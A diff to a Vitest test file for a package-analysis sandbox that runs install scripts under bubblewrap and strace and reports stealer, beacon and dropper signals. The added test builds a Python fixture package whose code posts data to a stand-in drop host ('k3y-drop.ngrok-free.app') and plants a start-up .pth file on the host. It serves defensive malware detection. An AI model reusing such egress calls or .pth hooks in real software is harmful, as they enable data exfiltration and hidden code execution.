@@ -1,7 +1,9 @@
 // The dynamic stage on real bubblewrap and strace: hostile install scripts stay contained and are reported;
 // stealers, DNS beacons and droppers yield their signals; a legitimate install script yields none of them.
+import { spawnSync } from 'node:child_process'
 import { randomBytes } from 'node:crypto'
-import { existsSync, rmSync, writeFileSync } from 'node:fs'
+import { existsSync, mkdirSync, rmSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
 import { beforeAll, describe, expect, it } from 'vitest'
 import { DEFAULT_ARCHIVE_LIMITS } from '../../src/core/archive-limits.ts'
 import { npmEcosystem } from '../../src/protocols/npm/ecosystem.ts'
@@ -34,6 +36,7 @@ describe('findings from a trace', () => {
     steps: [{ label: 'setup.py', phase: 'install', argv: ['python3', 'setup.py'], cwd: '.' }, { label: 'call demo', phase: 'call', argv: [], cwd: '.' }],
     runs: [{ persona, steps: [step('setup.py', 'install', 0), step('call demo', 'call', 1000)], syscalls: [syscalls, []], network, tokens: [], ms: 2000, killed: false }],
     ms: 2000,
+    environment: 'python 3.11; requests 2.28.1',
   })
 
   it('lets setuptools fetch build requirements from the package index and probe with a shell: pip is a package manager, the index is no foreign host, runner is not pytest-runner', () => {
@@ -329,6 +332,34 @@ def start(token):
     const hosts = run.runs[0]!.network.flatMap((e) => (e.kind === 'http' ? [e.host] : []))
     expect(hosts).toEqual(expect.arrayContaining(['load-drop.example-sink.net', 'k3y-drop.ngrok-free.app']))
     expect(dynamicFindings(run).signals.map((s) => s.rule).sort()).toEqual(['sandbox-contacts-drop-host', 'sandbox-honeytoken-egress', 'sandbox-network', 'sandbox-system-info-egress'])
+  })
+
+  it('runs Python with its declared libraries only: requests is real and its post leaves; what the host added is hidden', { timeout: 60_000 }, async () => {
+    // a module and a start-up .pth file installed on the host outside the declared set, as pip or a machine's own tooling leaves them
+    const hostSite = String(spawnSync('/usr/bin/python3', ['-c', 'import site; print(site.getsitepackages()[0])']).stdout).trim()
+    expect(hostSite).toMatch(/^\/usr\/local\//)
+    const probe = `gatehouse_host_probe_${randomBytes(4).toString('hex')}`
+    mkdirSync(hostSite, { recursive: true })
+    writeFileSync(join(hostSite, `${probe}.py`), 'VALUE = 1\n')
+    writeFileSync(join(hostSite, `${probe}.pth`), "import os; os.environ['GATEHOUSE_HOST_PTH'] = 'ran'\n")
+    try {
+      const core = `import os, requests, ${probe} as probe
+print('requests', type(requests).__name__, requests.__version__)
+print('probe', type(probe).__name__, 'pth', os.environ.get('GATEHOUSE_HOST_PTH'))
+requests.post('https://k3y-drop.ngrok-free.app/r', data={'k': 'v'})
+`
+      const sdist = await pypiEcosystem.readArtifact(await sdistTarGz('reqpkg', '1.0.0', { 'reqpkg/__init__.py': core }), DEFAULT_ARCHIVE_LIMITS, { filename: 'reqpkg-1.0.0.tar.gz' })
+      const run = await runSandbox(pypiEcosystem, sdist, ONE)
+      const load = run.runs[0]!.steps[0]!
+      expect(load.stdout).toMatch(/^requests module \d+\.\d+/m)
+      expect(load.stdout).toContain('probe StandInModule pth None')
+      expect(run.runs[0]!.network).toContainEqual(expect.objectContaining({ kind: 'http', method: 'POST', host: 'k3y-drop.ngrok-free.app', path: '/r', body: 'k=v' }))
+      expect(run.environment).toMatch(/^python 3\.\d+\.\d+; setuptools \d.*, requests \d/)
+      expect(dynamicFindings(run).trace.summary.environment).toBe(run.environment)
+    } finally {
+      rmSync(join(hostSite, `${probe}.py`), { force: true })
+      rmSync(join(hostSite, `${probe}.pth`), { force: true })
+    }
   })
 
   it('gives a Windows stealer the folders it asks the environment for, with the stores it looks for planted there', { timeout: 60_000 }, async () => {
